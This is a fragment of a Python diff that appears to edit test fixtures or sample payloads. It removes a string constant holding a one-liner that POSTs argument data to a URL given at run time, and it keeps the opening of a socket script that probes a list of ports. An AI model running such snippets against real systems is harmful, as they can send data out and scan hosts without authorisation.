@@ -87,7 +87,6 @@ TAMPERED = {
 
 The image that has another name since is that of both recorders."""
 
-_POST = "import sys, urllib.request as r; r.urlopen(sys.argv[1], data=sys.argv[2].encode(), timeout=5).read()"
 _SILENT = """
 import socket, sys
 for port in sys.argv[2:]:
